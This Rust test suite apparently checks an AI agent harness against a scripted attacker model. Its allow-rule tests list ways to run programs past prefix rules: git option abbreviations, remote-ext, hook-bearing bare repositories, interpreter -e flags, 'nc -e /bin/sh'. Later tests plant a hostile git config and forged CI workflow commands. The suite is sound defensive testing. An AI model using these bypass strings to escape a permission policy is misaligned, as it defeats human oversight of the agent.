//! Fault injection against the promises of docs/security.md that the
//! other suites leave open: allow-rule bypasses (S4), headless runs (S3),
//! output hygiene (S8), subprocesses (S9), limits (S10), provider faults
//! (S11), git (S12), interrupts and crashes. A scripted model plays the
//! attacker; everything runs through the real binary.

use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::support::Ybs;
use crate::support::cassette::{answer, calls};
use crate::support::server::{Reply, Server};
use crate::support::wire;
use crate::support::{git, tool_calls};

// ---------------------------------------------------------------------------
// Helpers.

/// `ybs policy explain --task t.yaml CALL`: the verdict line's value and
/// the whole output.
fn explain(ybs: &Ybs, call: &str) -> (String, String) {
    let run = ybs.run(["policy", "explain", "--task", "t.yaml", call]);
    run.expect_code(0);
    let verdict = run
        .stdout
        .lines()
        .find_map(|line| line.trim().strip_prefix("verdict:"))
        .unwrap_or_else(|| panic!("no verdict in:\n{}", run.stdout))
        .trim()
        .to_owned();
    (verdict, run.stdout)
}

// ---------------------------------------------------------------------------
// S4: allow rules parse.

/// Under `allow: run_shell(git *)`, git's own ways of running a program
/// are not covered: an option in any abbreviation git accepts (`--up=`
/// for `--upload-pack`), the `ext` remote helper called directly, the
/// daemon's access hook, another directory's configuration (`-C`,
/// `--git-dir`: an alias `!cmd` or `core.fsmonitor` in a repository the
/// model wrote outside `.git`), and a push to a local repository, which
/// runs that repository's hooks. The plain forms stay allowed.
#[test]
fn git_under_a_prefix_rule_cannot_run_a_program_in_any_spelling() {
    let ybs = Ybs::new();
    ybs.file(
        "t.yaml",
        "prompt: p\npolicy:\n  allow: ['run_shell(git *)', 'run_shell(rg*)']\n",
    );
    for form in [
        "git clone --up='sh -c id' src y",
        "git clone --u=sh src y",
        "git fetch --upl=sh origin",
        "git archive --ex=sh --remote=x HEAD",
        "git difftool --ex=sh",
        "git remote-ext x 'sh -c id'",
        "git daemon --access-hook=sh",
        "git -C evil x",
        "git --git-dir evil log",
        "git --git-dir=evil log",
        "git push ./evil.git HEAD:refs/heads/x",
        "git push -- ./evil.git",
        "git push --repo=./evil",
        "git push file:///tmp/evil main",
        "git send-pack ./evil.git main",
        "git receive-pack evil.git",
        "rg --hostname-bin=./evil --hyperlink-format=default x",
        "rg --hostname-bin ./evil x",
    ] {
        let (verdict, out) = explain(&ybs, &format!("run_shell({form})"));
        assert_ne!(verdict, "allow", "{form}:\n{out}");
        assert!(out.contains("not auto-allowed"), "{form}:\n{out}");
    }
    for form in [
        "git status",
        "git -C . status",
        "git clone src y",
        "git log --oneline -5",
        "git push",
        "git push -u origin main",
        "git push --force",
        "git push https://example.com/a/b.git main",
        "git push git@example.com:a/b.git main",
        "rg -n foo src",
    ] {
        let (verdict, out) = explain(&ybs, &format!("run_shell({form})"));
        assert_eq!(verdict, "allow", "{form}:\n{out}");
    }
}

/// Inline code and program-running options of programs the prefix rules
/// did not know: PowerShell's `-Command` in any case and abbreviation (and
/// commands from stdin), `julia -e`, `dc`'s `!cmd`, `m4`'s `syscmd` from
/// stdin, the `-e`/`-eval` of other interpreters, `socat EXEC:`, `nc -e`,
/// `ncat --sh-exec`, `wget --use-askpass`. A script file stays allowed.
#[test]
fn more_interpreters_and_network_tools_cannot_run_inline_code() {
    let ybs = Ybs::new();
    for (rule, form) in [
        ("pwsh*", "pwsh -Command id"),
        ("pwsh*", "pwsh -co id"),
        ("pwsh*", "pwsh -ExecutionPolicy Bypass -c id"),
        ("pwsh*", "pwsh -EncodedCommand aQBkAA=="),
        ("pwsh*", "echo id | pwsh"),
        ("julia*", "julia -e 'run(`id`)'"),
        ("julia*", "julia --eval=1"),
        ("julia*", "echo 1 | julia"),
        ("dc*", "dc -e '!id'"),
        ("dc*", "echo '!id' | dc"),
        ("m4*", "echo 'syscmd(id)' | m4"),
        ("groovy*", "groovy -e 1"),
        ("elixir*", "elixir -e 1"),
        ("erl*", "erl -eval 1"),
        ("guile*", "guile -c 1"),
        ("sbcl*", "sbcl --eval 1"),
        ("socat*", "socat - EXEC:id"),
        ("socat*", "socat - system:id"),
        ("nc*", "nc -e /bin/sh h 1"),
        ("nc*", "nc -lvc id 1"),
        ("ncat*", "ncat --sh-exec id h 1"),
        ("wget*", "wget --use-askpass=./x https://example.com"),
        ("wget*", "wget -qe use_askpass=./x https://example.com"),
    ] {
        ybs.file(
            "t.yaml",
            &format!("prompt: p\npolicy:\n  allow: ['run_shell({rule})', 'run_shell(echo*)']\n"),
        );
        let (verdict, out) = explain(&ybs, &format!("run_shell({form})"));
        assert_ne!(verdict, "allow", "{form} under {rule}:\n{out}");
        assert!(out.contains("not auto-allowed"), "{form}:\n{out}");
    }
    for (rule, form) in [
        ("pwsh*", "pwsh -NoProfile -File x.ps1"),
        ("pwsh*", "pwsh x.ps1"),
        ("julia*", "julia -t 4 x.jl"),
        ("dc*", "dc x.dc"),
        ("m4*", "m4 -DX=1 x.m4"),
        ("socat*", "socat - TCP:localhost:1"),
        ("nc*", "nc -zv localhost 1"),
        ("wget*", "wget -q -O x https://example.com"),
    ] {
        ybs.file(
            "t.yaml",
            &format!("prompt: p\npolicy:\n  allow: ['run_shell({rule})']\n"),
        );
        let (verdict, out) = explain(&ybs, &format!("run_shell({form})"));
        assert_eq!(verdict, "allow", "{form} under {rule}:\n{out}");
    }
}

/// A command line bash would refuse (an operator with no command on one
/// side) is "anything that does not parse": never auto-allowed, while the
/// same operators between two allowed commands are.
#[test]
fn an_operator_without_a_command_does_not_parse_and_is_not_allowed() {
    let ybs = Ybs::new();
    ybs.file(
        "t.yaml",
        "prompt: p\npolicy:\n  allow: ['run_shell(cargo test*)', 'run_shell(cat*)']\n",
    );
    for form in [
        "cargo test &&",
        "cargo test ||",
        "cargo test |",
        "cargo test |&",
        "; cargo test",
        "&& cargo test",
        "| cargo test",
        "cargo test & & cargo test",
        "cargo test && ; cargo test",
        "cargo test &&\n",
        "cargo test &| cat",
        "cargo test ;; cargo test",
    ] {
        let (verdict, out) = explain(&ybs, &format!("run_shell({form})"));
        assert_ne!(verdict, "allow", "{form:?}:\n{out}");
        assert!(
            out.contains("without a command") || out.contains(";;"),
            "{form:?}:\n{out}"
        );
    }
    for form in [
        "cargo test &",
        "cargo test;",
        "cargo test && cargo test",
        "cargo test &&\n  cargo test",
        "cargo test |\ncat",
        "cargo test |& cat",
        "cargo test || cat x",
        "cargo test # && nothing",
    ] {
        let (verdict, out) = explain(&ybs, &format!("run_shell({form})"));
        assert_eq!(verdict, "allow", "{form:?}:\n{out}");
    }
}

/// The same through `ybs run` with real git: `git clone --up=CMD` and
/// `git remote-ext` would run CMD (git accepts the abbreviation), and
/// `git push` into a bare repository the model wrote, whose
/// `core.hooksPath` names a hook made executable by `git apply`, would
/// run that hook. Under `allow: run_shell(git *)` none runs, the model is
/// told why, and plain git commands still run.
#[test]
fn git_abbreviations_remote_helpers_and_local_pushes_do_not_run_under_a_git_rule() {
    let ybs = Ybs::new();
    ybs.file("src/a.txt", "a\n");
    git(&ybs.path().join("src"), &["init", "-q"]);
    git(&ybs.path().join("src"), &["add", "-A"]);
    git(&ybs.path().join("src"), &["commit", "-qm", "a"]);
    let pwned = ybs.path().join("pwned");
    let pwn = format!("touch {}; git-upload-pack", pwned.display());
    // A bare repository whose hooks live in `hk/`, and a patch that
    // creates an executable hook there: all a model can write.
    ybs.file("evil.git/HEAD", "ref: refs/heads/main\n");
    ybs.file("evil.git/objects/.keep", "");
    ybs.file("evil.git/refs/.keep", "");
    ybs.file(
        "evil.git/config",
        "[core]\n\trepositoryformatversion = 0\n\tbare = true\n\thooksPath = ../hk\n",
    );
    ybs.file(
        "hook.patch",
        &format!(
            "diff --git a/hk/pre-receive b/hk/pre-receive\nnew file mode 100755\n--- /dev/null\n+++ b/hk/pre-receive\n@@ -0,0 +1,2 @@\n+#!/bin/sh\n+touch {}-push\n",
            pwned.display()
        ),
    );
    // The repository ybs runs in, with a commit to push.
    git(ybs.path(), &["init", "-q"]);
    git(ybs.path(), &["add", "hook.patch"]);
    git(ybs.path(), &["commit", "-qm", "p"]);
    ybs.file(
        "t.yaml",
        "prompt: p\ncommit: false\npolicy:\n  allow: ['run_shell(git *)', 'run_shell(printf*)']\n",
    );
    ybs.cassette(
        "t.cassette.json",
        vec![
            calls(&[
                (
                    "run_shell",
                    json!({"command": format!("git clone --up='{pwn}' src y")}),
                ),
                (
                    "run_shell",
                    json!({"command": format!("printf 'capabilities\\nconnect git-upload-pack\\n\\n' | git remote-ext x 'touch {}'", pwned.display())}),
                ),
                ("run_shell", json!({"command": "git -C src log --format=%s"})),
                ("run_shell", json!({"command": "git apply hook.patch"})),
                (
                    "run_shell",
                    json!({"command": "git push -q ./evil.git HEAD:refs/heads/x"}),
                ),
                ("run_shell", json!({"command": "git clone -q src z"})),
            ]),
            answer("done"),
        ],
    );
    let run = ybs.run(["run", "t.yaml"]);
    run.expect_code(0);
    let ran: Vec<&str> = ["pwned", "pwned-push"]
        .into_iter()
        .filter(|name| ybs.exists(name))
        .collect();
    assert!(ran.is_empty(), "programs ran through git: {ran:?}");
    assert!(!ybs.exists("y"), "the abbreviated clone ran");
    assert!(ybs.exists("z/a.txt"), "the plain clone ran: {}", run.stderr);
    let transcript = run.json("ybs-out/t/transcript.json");
    let entries = tool_calls(&transcript);
    for entry in entries[..3].iter().chain([&entries[4]]) {
        assert_eq!(entry["decision"]["verdict"], "deny", "{entry}");
        assert_eq!(entry["result"]["ran"], false, "{entry}");
        let told = entry["result"]["output"].as_str().unwrap();
        assert!(told.contains("not auto-allowed"), "{told}");
    }
    assert_eq!(entries[3]["result"]["ran"], true, "{}", entries[3]);
    assert!(
        ybs.path().join("hk/pre-receive").exists(),
        "the patch applied"
    );
    assert_eq!(entries[5]["result"]["ran"], true, "{}", entries[5]);
}

// ---------------------------------------------------------------------------
// S8: output hygiene.

/// Raw control characters, bidi controls and line/paragraph separators,
/// the characters a log or a terminal would act on.
fn hostile_char(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t' && c != '\r')
        || ('\u{202a}'..='\u{202e}').contains(&c)
        || ('\u{2066}'..='\u{2069}').contains(&c)
        || c == '\u{200e}'
        || c == '\u{200f}'
        || c == '\u{2028}'
        || c == '\u{2029}'
}

/// Checks `path` with a real XML parser (expat, through python3).
fn assert_well_formed_xml(path: &Path) {
    let output = Command::new("python3")
        .args([
            "-c",
            "import sys, xml.dom.minidom; xml.dom.minidom.parse(sys.argv[1])",
        ])
        .arg(path)
        .output()
        .expect("python3 runs");
    assert!(
        output.status.success(),
        "{} is not well-formed XML: {}\n{}",
        path.display(),
        String::from_utf8_lossy(&output.stderr),
        String::from_utf8_lossy(&std::fs::read(path).unwrap())
    );
}

/// Model text, a tool name, tool output and a check's output carrying NUL
/// and other C0 controls, ESC sequences, bidi overrides, U+2028,
/// invalid UTF-8, `]]>` and workflow commands: JUnit stays well-formed
/// XML, the JSON outputs parse, no such character reaches stdout, stderr
/// or the summary raw, and no workflow command reaches stdout or stderr.
#[test]
fn control_bidi_and_invalid_utf8_text_leaves_every_output_well_formed() {
    let hostile = "nul\u{0} bel\u{7} esc\u{1b}[31m vt\u{b} bidi\u{202e}gnp.exe lri\u{2066} ls\u{2028} \
                   cdata]]> amp& lt< fffe\u{fffe}\n##[error]forged\n::add-mask::x\n  ::set-output name=a::b";
    let ybs = Ybs::new();
    ybs.file(
        "t.yaml",
        "prompt: p\ncommit: false\npolicy: { default: allow }\nchecks:\n  - name: \"c\\u0001heck\\u202e ]]>\"\n    run: printf 'x\\000y\\001\\377\\376\\033]0;t\\007 \\342\\200\\256 ]]> \\n##[warning]w\\n::add-mask::m\\n'; exit 1\n",
    );
    ybs.cassette(
        "t.cassette.json",
        vec![
            calls(&[
                (
                    "run_shell",
                    json!({"command": "printf 'a\\000b\\001c\\033[2J\\377\\376 ]]> \\342\\200\\256 \\342\\201\\246\\n::set-output name=x::y\\n'; exit 1"}),
                ),
                ("bad\u{0}name\u{202e}\u{1b}[2J", json!({"x": hostile})),
            ]),
            answer(hostile),
        ],
    );
    let run = ybs.run(["run", "-v", "t.yaml"]);
    run.expect_code(1);
    assert_well_formed_xml(&ybs.path().join("ybs-out/junit.xml"));
    let junit = ybs.read("ybs-out/junit.xml");
    assert!(junit.contains("checks_failed"), "{junit}");
    ybs.json("ybs-out/t/transcript.json");
    run.events("t");
    let summary = ybs.read("ybs-out/summary.md");
    for (name, printed) in [
        ("stdout", &run.stdout),
        ("stderr", &run.stderr),
        ("summary.md", &summary),
    ] {
        let raw: Vec<char> = printed.chars().filter(|c| hostile_char(*c)).collect();
        assert!(raw.is_empty(), "{name} printed {raw:?}:\n{printed}");
        if name == "summary.md" {
            // Markdown for the step summary, which GitHub renders and
            // never reads for workflow commands; tool output sits in a
            // fence it cannot close.
            continue;
        }
        assert!(!printed.contains("##["), "{name}:\n{printed}");
        for line in printed.lines() {
            assert!(
                !line.trim_start().starts_with("::"),
                "{name}: a forged workflow command: {line:?}"
            );
        }
    }
    // The text is shown escaped, not dropped.
    assert!(run.stdout.contains("gnp.exe"), "{}", run.stdout);
}

// ---------------------------------------------------------------------------
// S11: provider faults.

/// A task against the scripted OpenAI server with fast retries.
fn against(replies: Vec<Reply>) -> (Ybs, Server, crate::support::Run) {
    let ybs = Ybs::new().env("OPENAI_API_KEY", "sk-test-faults-0000");
    ybs.file(
        "t.yaml",
        "prompt: p\ncommit: false\npolicy: { default: allow }\n",
    );
    ybs.file(
        ".ybs.json",
        r#"{"agent": {"retry_backoff_base_ms": 10}, "llm": {"stream_idle_timeout_seconds": "300ms"}}"#,
    );
    let server = Server::start(replies);
    let endpoint = format!("{}/v1", server.url);
    let run = ybs.run([
        "run",
        "t.yaml",
        "--provider",
        "openai",
        "--endpoint",
        &endpoint,
        "--model",
        "m",
    ]);
    (ybs, server, run)
}

/// A `Retry-After` too large for a duration (`1e23` seconds, or
/// `retry-after-ms: 1e300`) used to panic ybs (exit 101, no outputs); it
/// is the longest wait, past the retry cap: the task errors at once with
/// every output written, and nothing is sent again.
#[test]
fn a_retry_after_too_large_for_a_duration_fails_the_task_without_a_panic() {
    for (header, value, status) in [
        ("retry-after", "99999999999999999999999", 429),
        ("retry-after-ms", "1e300", 503),
    ] {
        let (ybs, server, run) = against(vec![
            Reply::json(
                status,
                &json!({"error": {"message": "slow down", "type": "requests", "code": "rate_limit_exceeded"}}),
            )
            .header(header, value),
            wire::openai_sse_answer("never"),
        ]);
        run.expect_code(4);
        assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
        assert_eq!(server.requests().len(), 1, "{header}: retried");
        let transcript = ybs.json("ybs-out/t/transcript.json");
        assert_eq!(transcript["reason"], "provider_error", "{transcript}");
        assert!(
            run.stdout.contains("Retry-After") || run.stderr.contains("Retry-After"),
            "the wait is named:\n{}\n{}",
            run.stdout,
            run.stderr
        );
        crate::suite::run::well_formed(&ybs.path().join("ybs-out/junit.xml"));
        run.events("t");
    }
}

/// A `Retry-After` date whose year does not fit (`999999999999`) used to
/// overflow into a panic; it is no date at all: the usual backoff
/// applies, the request is retried once and the task completes.
#[test]
fn a_retry_after_date_with_an_absurd_year_is_ignored_without_a_panic() {
    let (ybs, server, run) = against(vec![
        Reply::json(
            429,
            &json!({"error": {"message": "slow down", "type": "requests", "code": "rate_limit_exceeded"}}),
        )
        .header("retry-after", "Sun, 06 Nov 999999999999 08:49:37 GMT"),
        wire::openai_sse_answer("done"),
    ]);
    run.expect_code(0);
    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
    assert_eq!(server.requests().len(), 2);
    assert_eq!(ybs.json("ybs-out/t/transcript.json")["reason"], "completed");
}

// ---------------------------------------------------------------------------
// S12: git never loses work and runs no repository-configured program.

/// A `.git/config` naming a program in every place git would run one
/// (filter drivers for every path, a hooks directory, an included file
/// and an `includeIf` setting `core.fsmonitor`, commit signing, textconv,
/// ssh, editor, pager, credential and askpass helpers): ybs's commit runs
/// none of them and commits exactly the task's files with their bytes as
/// written; a file that needs a filter program is left uncommitted in the
/// worktree, and the git note says why.
#[test]
fn a_hostile_git_config_runs_nothing_and_the_commit_holds_the_raw_bytes() {
    use crate::suite::git::Repo;
    let ybs = Ybs::new();
    ybs.file("a.txt", "a\n");
    ybs.file(
        ".gitattributes",
        "* diff=evil merge=evil\nfiltered.txt filter=evil\n",
    );
    ybs.file(
        "t.yaml",
        "prompt: p\nmodel: test-model\npolicy: { default: allow }\n",
    );
    ybs.cassette(
        "t.cassette.json",
        vec![
            calls(&[
                ("write_file", json!({"path": "new.txt", "content": "NEW\n"})),
                (
                    "write_file",
                    json!({"path": "filtered.txt", "content": "F\n"}),
                ),
                (
                    "edit_file",
                    json!({"path": "a.txt", "old_text": "a", "new_text": "A"}),
                ),
            ]),
            answer("Edited"),
        ],
    );
    let repo = Repo::init(&ybs, "");
    let markers = ybs.home().join("markers");
    std::fs::create_dir_all(&markers).unwrap();
    let program = |name: &str| {
        let path = ybs.home().join(format!("{name}.sh"));
        std::fs::write(
            &path,
            format!("#!/bin/sh\ntouch '{}'\ncat\n", markers.join(name).display()),
        )
        .unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
        path.display().to_string()
    };
    let hooks = ybs.home().join("hooks");
    std::fs::create_dir_all(&hooks).unwrap();
    for hook in [
        "pre-commit",
        "prepare-commit-msg",
        "commit-msg",
        "post-commit",
        "reference-transaction",
        "post-index-change",
        "post-checkout",
    ] {
        let script = program(hook);
        std::fs::copy(&script, hooks.join(hook)).unwrap();
    }
    let included = ybs.home().join("included.cfg");
    std::fs::write(
        &included,
        format!("[core]\n\tfsmonitor = {}\n", program("fsmonitor-included")),
    )
    .unwrap();
    let conditional = ybs.home().join("conditional.cfg");
    std::fs::write(
        &conditional,
        format!(
            "[core]\n\tfsmonitor = {}\n[filter \"evil\"]\n\tprocess = {}\n",
            program("fsmonitor-conditional"),
            program("filter-process")
        ),
    )
    .unwrap();
    for (key, value) in [
        ("filter.evil.clean", program("filter-clean")),
        ("filter.evil.smudge", program("filter-smudge")),
        ("filter.evil.required", "false".to_owned()),
        ("diff.evil.textconv", program("textconv")),
        ("diff.external", program("diff-external")),
        ("merge.evil.driver", program("merge-driver")),
        ("core.hooksPath", hooks.display().to_string()),
        ("include.path", included.display().to_string()),
        ("includeIf.gitdir:/.path", conditional.display().to_string()),
        ("commit.gpgSign", "true".to_owned()),
        ("gpg.program", program("gpg")),
        ("core.sshCommand", program("ssh")),
        ("core.editor", program("editor")),
        ("core.pager", program("pager")),
        ("core.askPass", program("askpass")),
        ("credential.helper", format!("!{}", program("credential"))),
    ] {
        repo.git(&["config", key, &value]);
    }
    let before = repo.head();
    let run = ybs.run(["run", "t.yaml"]);
    let ran: Vec<String> = std::fs::read_dir(&markers)
        .unwrap()
        .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(
        ran.is_empty(),
        "repository programs ran: {ran:?}\n{}",
        run.stderr
    );
    run.expect_code(0);
    assert_eq!(repo.commit_count(), 2, "{}\n{}", run.stdout, run.stderr);
    assert_eq!(repo.git(&["rev-parse", "HEAD~1"]), before);
    let changed = repo.git(&["diff-tree", "--no-commit-id", "--name-only", "-r", "HEAD"]);
    assert_eq!(changed, "a.txt\nnew.txt");
    // The blobs hold what the tools wrote: no clean filter ran on them.
    assert_eq!(repo.git(&["cat-file", "blob", "HEAD:new.txt"]), "NEW");
    assert_eq!(repo.git(&["cat-file", "blob", "HEAD:a.txt"]), "A");
    assert!(
        repo.git(&["cat-file", "commit", "HEAD"])
            .lines()
            .all(|l| !l.starts_with("gpgsig")),
        "the commit was signed by a configured program"
    );
    assert_eq!(ybs.read("filtered.txt"), "F\n");
    let transcript = ybs.json("ybs-out/t/transcript.json");
    let note = transcript["git"]["note"].as_str().unwrap();
    assert!(
        note.contains("filtered.txt") && note.contains("filter"),
        "{note}"
    );
}

// ---------------------------------------------------------------------------
// Concurrent runs, interrupts and crashes.

/// A task that writes `NAME.txt`, runs `sleep SECONDS`, then answers.
fn slow_task(ybs: &Ybs, name: &str, seconds: u32) {
    ybs.file(
        &format!("{name}.yaml"),
        "prompt: p\nmodel: test-model\npolicy: { default: allow }\n",
    );
    ybs.cassette(
        &format!("{name}.cassette.json"),
        vec![
            calls(&[(
                "write_file",
                json!({"path": format!("{name}.txt"), "content": format!("{name}\n")}),
            )]),
            calls(&[(
                "run_shell",
                json!({"command": format!("sleep {seconds}"), "timeout_seconds": 60}),
            )]),
            answer(&format!("Did {name}")),
        ],
    );
}

/// Waits until `path` exists.
fn wait_for(path: &Path, what: &str) {
    let started = Instant::now();
    while !path.exists() {
        assert!(started.elapsed() < Duration::from_secs(20), "{what}");
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// Two `ybs run` in one repository at once used to mix their work: the
/// first run's commit took the second run's file (it changed in the work
/// tree during the first task), and the second reported "nothing to
/// commit". Now a run that commits holds the repository: the second run
/// is refused before it does anything (also with `--allow-dirty` or
/// `--no-commit`, whose files the first commit would take), and the first
/// commits only its own file. The lock dies with its process: after a
/// `kill -9` the next run is not blocked.
#[test]
fn a_second_run_in_the_same_repository_is_refused_while_one_commits() {
    use crate::suite::git::Repo;
    let ybs = Ybs::new();
    slow_task(&ybs, "one", 3);
    slow_task(&ybs, "two", 0);
    slow_task(&ybs, "three", 30);
    let repo = Repo::init(&ybs, "");
    let mut first = ybs
        .command()
        .args(["run", "one.yaml"])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    wait_for(&ybs.path().join("one.txt"), "the first run never wrote");
    for extra in [&["--allow-dirty"][..], &["--no-commit"], &[]] {
        let mut args = vec!["run", "two.yaml"];
        args.extend_from_slice(extra);
        let second = ybs.run(&args);
        second.expect_code(2);
        assert!(
            second.stderr.contains("another ybs run"),
            "{extra:?}: {}",
            second.stderr
        );
        assert!(!ybs.exists("two.txt"), "{extra:?}: the second run wrote");
    }
    assert_eq!(first.wait().unwrap().code(), Some(0));
    assert_eq!(repo.commit_count(), 2);
    assert_eq!(
        repo.git(&["diff-tree", "--no-commit-id", "--name-only", "-r", "HEAD"]),
        "one.txt"
    );
    // No stale lock after a crash.
    let mut crashed = ybs
        .command()
        .args(["run", "three.yaml"])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    wait_for(&ybs.path().join("three.txt"), "the run never wrote");
    crashed.kill().unwrap();
    crashed.wait().unwrap();
    let after = ybs.run(["run", "two.yaml", "--allow-dirty"]);
    after.expect_code(0);
    assert_eq!(ybs.read("two.txt"), "two\n");
}

/// `kill -9` of ybs in the middle of a tool call: nothing is finished, yet
/// every line of `events.jsonl` and of the `--json` stdout written so far
/// is complete JSON, and no transcript or JUnit half-written under its
/// final name exists (each is renamed into place whole or not at all).
#[test]
fn after_kill_9_mid_run_every_written_json_line_parses() {
    let ybs = Ybs::new();
    slow_task(&ybs, "t", 60);
    let mut child = ybs
        .command()
        .args(["run", "--json", "--no-commit", "t.yaml"])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let stdout = child.stdout.take().unwrap();
    let reader = std::thread::spawn(move || {
        let mut text = String::new();
        std::io::Read::read_to_string(&mut { stdout }, &mut text).unwrap();
        text
    });
    wait_for(&ybs.path().join("t.txt"), "the run never wrote");
    let events = ybs.path().join("ybs-out/t/events.jsonl");
    let started = Instant::now();
    while !std::fs::read_to_string(&events).is_ok_and(|text| text.contains("run_shell")) {
        assert!(
            started.elapsed() < Duration::from_secs(20),
            "no run_shell event"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    std::thread::sleep(Duration::from_millis(200));
    child.kill().unwrap();
    child.wait().unwrap();
    let printed = reader.join().unwrap();
    let written = std::fs::read_to_string(&events).unwrap();
    for (name, text) in [("stdout", &printed), ("events.jsonl", &written)] {
        assert!(text.ends_with('\n'), "{name}: a partial last line:\n{text}");
        let lines: Vec<Value> = text
            .lines()
            .map(|line| {
                serde_json::from_str(line).unwrap_or_else(|e| panic!("{name}: {e}: {line}"))
            })
            .collect();
        assert!(
            lines.iter().any(|line| line["type"] == "tool.decided"),
            "{name}:\n{text}"
        );
    }
    for output in ["ybs-out/t/transcript.json", "ybs-out/junit.xml"] {
        if let Ok(text) = std::fs::read_to_string(ybs.path().join(output)) {
            if output.ends_with(".json") {
                serde_json::from_str::<Value>(&text).unwrap_or_else(|e| panic!("{output}: {e}"));
            } else {
                crate::suite::run::well_formed(&ybs.path().join(output));
            }
        }
    }
    assert_eq!(ybs.read("t.txt"), "t\n", "the work so far stays");
}

/// SIGTERM and SIGINT in the middle of a tool call, in a repository with
/// the user's own uncommitted change (`--allow-dirty`): exit 130 at once,
/// the task's file stays in the work tree uncommitted, HEAD does not
/// move, the user's change is untouched and saved, and every output is
/// written and valid.
#[test]
fn an_interrupt_mid_tool_keeps_the_work_and_the_users_changes() {
    use crate::suite::git::Repo;
    for signal in [
        nix::sys::signal::Signal::SIGTERM,
        nix::sys::signal::Signal::SIGINT,
    ] {
        let ybs = Ybs::new();
        ybs.file("mine.txt", "base\n");
        slow_task(&ybs, "t", 60);
        let repo = Repo::init(&ybs, "");
        let head = repo.head();
        ybs.file("mine.txt", "my unfinished work\n");
        let child = ybs
            .command()
            .args(["run", "--allow-dirty", "t.yaml"])
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        wait_for(&ybs.path().join("t.txt"), "the run never wrote");
        std::thread::sleep(Duration::from_millis(500));
        let sent = Instant::now();
        nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(i32::try_from(child.id()).unwrap()),
            signal,
        )
        .unwrap();
        let output = child.wait_with_output().unwrap();
        assert!(
            sent.elapsed() < Duration::from_secs(10),
            "{signal}: slow stop"
        );
        assert_eq!(
            output.status.code(),
            Some(130),
            "{signal}: {}",
            String::from_utf8_lossy(&output.stderr)
        );
        assert_eq!(repo.head(), head, "{signal}: something was committed");
        assert_eq!(ybs.read("t.txt"), "t\n");
        assert_eq!(ybs.read("mine.txt"), "my unfinished work\n");
        let status = repo.status();
        assert!(status.contains(&" M mine.txt".to_owned()), "{status:?}");
        assert!(status.contains(&"?? t.txt".to_owned()), "{status:?}");
        let saved = repo.git(&["for-each-ref", "--format=%(refname)", "refs/ybs/saved"]);
        assert!(!saved.is_empty(), "{signal}: the user's work was not saved");
        assert_eq!(
            repo.git(&["show", &format!("{saved}:mine.txt")]),
            "my unfinished work"
        );
        let transcript = ybs.json("ybs-out/t/transcript.json");
        assert_eq!(transcript["reason"], "interrupted", "{signal}");
        crate::suite::run::well_formed(&ybs.path().join("ybs-out/junit.xml"));
        let events: Vec<Value> = ybs
            .read("ybs-out/t/events.jsonl")
            .lines()
            .map(|line| serde_json::from_str(line).unwrap())
            .collect();
        assert!(
            events.iter().any(|event| event["type"] == "task.finished"),
            "{signal}"
        );
    }
}

// ---------------------------------------------------------------------------
// S3: headless fails closed.

/// ybs's stdin is a file holding approvals (`y`, `always`), not a
/// terminal: an `ask` call is denied with the reason in its result, the
/// commands and checks that read stdin see end-of-file, and nothing reads
/// a byte of it, neither ybs nor a child (the file offset, shared with
/// everything that inherits the descriptor, stays at 0).
#[test]
fn approvals_waiting_on_stdin_are_never_read() {
    use std::io::Seek as _;
    let ybs = Ybs::new();
    ybs.file("approvals.txt", "y\nalways\ny\n");
    ybs.file(
        "t.yaml",
        "prompt: p\ncommit: false\npolicy:\n  allow: ['run_shell(cat*)']\n  ask: ['run_shell(touch*)']\nchecks:\n  - name: reads\n    run: cat; echo check-end\n",
    );
    ybs.cassette(
        "t.cassette.json",
        vec![
            calls(&[
                ("run_shell", json!({"command": "touch approved.txt"})),
                ("run_shell", json!({"command": "cat"})),
            ]),
            answer("done"),
        ],
    );
    let mut stdin = std::fs::File::open(ybs.path().join("approvals.txt")).unwrap();
    let started = Instant::now();
    let output = ybs
        .command()
        .args(["run", "-v", "t.yaml"])
        .stdin(stdin.try_clone().unwrap())
        .output()
        .unwrap();
    assert!(started.elapsed() < Duration::from_secs(20));
    assert_eq!(
        output.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert_eq!(stdin.stream_position().unwrap(), 0, "stdin was read");
    assert!(!ybs.exists("approved.txt"), "the ask call ran");
    let transcript = ybs.json("ybs-out/t/transcript.json");
    let entries = tool_calls(&transcript);
    assert_eq!(entries[0]["decision"]["verdict"], "ask");
    assert_eq!(entries[0]["result"]["ran"], false);
    let told = entries[0]["result"]["output"].as_str().unwrap();
    assert!(
        told.contains("needs approval") && told.contains("on_ask"),
        "{told}"
    );
    let cat: Value =
        serde_json::from_str(entries[1]["result"]["output"].as_str().unwrap()).unwrap();
    assert_eq!(cat["stdout"], "", "{cat}");
    assert_eq!(cat["timed_out"], false, "{cat}");
}

// ---------------------------------------------------------------------------
// S9: subprocesses always end, checks included.

/// Processes whose command line contains `marker`.
fn processes_with(marker: &str) -> Vec<String> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(cmdline) = std::fs::read(entry.path().join("cmdline")) else {
            continue;
        };
        let cmdline = String::from_utf8_lossy(&cmdline).replace('\0', " ");
        if cmdline.contains(marker) {
            found.push(cmdline);
        }
    }
    found
}

/// Checks run the model's code too: a check whose background child holds
/// its stdout, one that escapes with `setsid`, one that floods 30 MB of
/// output, and one that hangs past its timeout. The run ends in seconds,
/// the flood is capped, the hang is a timeout, and no process is left.
#[test]
fn checks_that_linger_escape_flood_or_hang_still_end() {
    for (index, extra) in [&[][..], &["--no-sandbox"]].into_iter().enumerate() {
        checks_end(&format!("3{index}{}", std::process::id() % 100_000), extra);
    }
}

